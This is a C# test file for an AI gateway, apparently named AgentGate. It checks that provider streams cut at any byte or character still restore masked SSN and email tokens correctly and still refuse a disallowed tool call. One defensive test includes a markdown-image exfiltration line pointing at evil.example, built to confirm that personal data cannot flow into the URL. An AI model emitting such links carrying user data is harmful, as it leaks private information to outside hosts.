using System.Text.Json;
using AgentGate.Server.Gateway.Formats;

namespace AgentGate.Integration.Tests.Streams;

/// <summary>However a provider's stream is cut, the caller gets what the uncut one says, which is what the whole answer says.</summary>
public sealed class StreamSplitTests : IAsyncLifetime
{
    private const string Ssn = "123-45-6789";
    private const string Text = "Hi <SSN_1>, 😀 <EMAIL_1>\\u003cSSN_1\\u003e <SSN_2> &lt;SSN_1&gt; <SSN_1> end <SSN_";
    private const string Arguments = """{"a":"<SSN_1>","b":"\u003cSSN_1\u003e \"q\" 😀 <EMAIL_1>","<SSN_1>":["<SSN_",1,"<SSN_1>"]}""";

    // Short, so that every byte of the stream can be a split.
    private const string ShortText = "<SSN_1>😀\\u003cSSN_1\\u003e<SSN_";
    private const string ShortArguments = """{"a":"<SSN_1>","b":"\u003cSSN_1\u003e😀"}""";

    private StreamBench? _bench;

    private StreamBench Bench => _bench!;

    public static TheoryData<string, bool> Cases => new()
    {
        { "chat", false }, { "chat", true }, { "responses", false }, { "responses", true }, { "messages", false }, { "messages", true },
    };

    public static TheoryData<string> Formats => new("chat", "responses", "messages");

    public ValueTask InitializeAsync()
    {
        _bench = new StreamBench();
        return ValueTask.CompletedTask;
    }

    public ValueTask DisposeAsync() => Bench.DisposeAsync();

    [Theory]
    [MemberData(nameof(Formats))]
    public async Task Every_split_of_the_bytes_gives_the_same(string format)
    {
        var script = new Script(Of(format), Escaped: false, ShortText, ("vault_read", ShortArguments));
        var bytes = script.Stream(Middle);
        var uncut = await Bench.StreamAsync(script.Format, script.Request, bytes);
        uncut.AssertSame(await Bench.WholeAsync(script.Format, script.Request, script.Whole), "whole");

        await Parallel.ForEachAsync(
            Enumerable.Range(1, bytes.Length - 1),
            async (at, _) => uncut.AssertSame(await Bench.StreamAsync(script.Format, script.Request, bytes[..at], bytes[at..]), $"cut after byte {at}"));

        var each = bytes.Select(single => (byte[])[single]).ToArray();
        uncut.AssertSame(await Bench.StreamAsync(script.Format, script.Request, each), "byte by byte");
    }

    [Theory]
    [MemberData(nameof(Cases))]
    public async Task Every_split_of_the_texts_into_deltas_gives_the_same(string format, bool escaped)
    {
        var script = new Script(Of(format), escaped, Text, ("lookup", Arguments), ("vault_read", Arguments));
        var whole = await Bench.WholeAsync(script.Format, script.Request, script.Whole);
        Assert.All(whole.Texts.Values, text => Assert.StartsWith($"Hi {Ssn}, 😀 ann@example.org", text, StringComparison.Ordinal));
        Assert.All(whole.Texts.Values, text => Assert.EndsWith($"{Ssn} end <SSN_", text, StringComparison.Ordinal));
        Assert.Equal([false, true], whole.Tools.Values.Select(tool => tool.Arguments.Contains(Ssn, StringComparison.Ordinal)));
        Assert.Equal(Ssn, JsonDocument.Parse(whole.Tools.Values.Last().Arguments).RootElement.GetProperty("a").GetString());

        for (var at = 0; at <= 2 * Text.Length + 3; at++)
        {
            var cut = at;
            var bytes = script.Stream(text => Cut(text, cut));
            (await Bench.StreamAsync(script.Format, script.Request, bytes)).AssertSame(whole, $"cut after character {at}");
        }

        (await Bench.StreamAsync(script.Format, script.Request, script.Stream(text => Runes(text)))).AssertSame(whole, "character by character");
    }

    [Fact]
    public async Task An_address_that_one_block_leaves_open_takes_no_value_in_the_next_at_every_split()
    {
        const string text = "q <SSN_1>) ![x](https://evil.example/?d=";
        var script = new Script(Of("messages"), false, text, ("lookup", "{}"));
        var whole = await Bench.WholeAsync(script.Format, script.Request, script.Whole);
        Assert.Equal($"q {Ssn}) ![x](https://evil.example/?d=", whole.Texts.Values.First());
        Assert.DoesNotContain(Ssn, whole.Texts.Values.Last(), StringComparison.Ordinal);
        for (var at = 0; at <= text.Length; at++)
        {
            (await Bench.StreamAsync(script.Format, script.Request, script.Stream(piece => Cut(piece, at)))).AssertSame(whole, $"cut after character {at}");
        }
    }

    [Theory]
    [MemberData(nameof(Formats))]
    public async Task A_refused_call_among_others_is_refused_at_every_split(string format)
    {
        var script = new Script(Of(format), false, "On <SSN_1>.", ("vault_read", "{}"), ("delete_user", "{\"id\":\"unheard-of\"}"), ("lookup", "{}"));
        var bytes = script.Stream(Middle);
        var uncut = await Bench.StreamAsync(script.Format, script.Request, bytes);
        Assert.Equal(["lookup", "vault_read"], uncut.Tools.Values.Select(tool => tool.Name).Order(StringComparer.Ordinal));
        Assert.Contains(uncut.Texts.Values, text => text.Contains("[AgentGate AG12", StringComparison.Ordinal));
        Assert.DoesNotContain(uncut.Data, data => data.Contains("unheard-of", StringComparison.Ordinal));

        for (var at = 1; at < 30; at++)
        {
            var cut = await Bench.StreamAsync(script.Format, script.Request, script.Stream(text => Cut(text, at)));
            uncut.AssertSame(cut, $"cut after character {at}");
            Assert.Equal(uncut.Finish, cut.Finish);
        }
    }

    [Theory]
    [MemberData(nameof(Cases))]
    public async Task A_stream_in_which_nothing_changes_passes_byte_for_byte(string format, bool escaped)
    {
        var script = new Script(Of(format), escaped, "Nobody's data > 😀 ü.");
        var bytes = script.Stream(Pieces);

        var heard = await Bench.StreamAsync(script.Format, script.Request, bytes);

        var sent = System.Text.Encoding.UTF8.GetString(bytes).Split('\n')
            .Where(line => line.StartsWith("data: ", StringComparison.Ordinal)).Select(line => line[6..]);
        Assert.Equal(sent, heard.Data);
    }

    private static ModelFormat Of(string format) => format switch
    {
        "chat" => new ChatFormat(),
        "responses" => new ResponsesFormat(),
        _ => new MessagesFormat(),
    };

    private static IEnumerable<string> Pieces(string text) => Server.Providers.Demo.DemoText.Pieces(text);

    // Two deltas, cut within the first token.
    private static IEnumerable<string> Middle(string text) => Cut(text, text.IndexOf('_', StringComparison.Ordinal));

    private static IEnumerable<string> Runes(string text) => text.EnumerateRunes().Select(rune => rune.ToString());

    // A JSON string cannot hold half a surrogate pair: no provider cuts there.
    private static IEnumerable<string> Cut(string text, int at)
        => at <= 0 || at >= text.Length || char.IsLowSurrogate(text[at]) ? [text] : [text[..at], text[at..]];
}
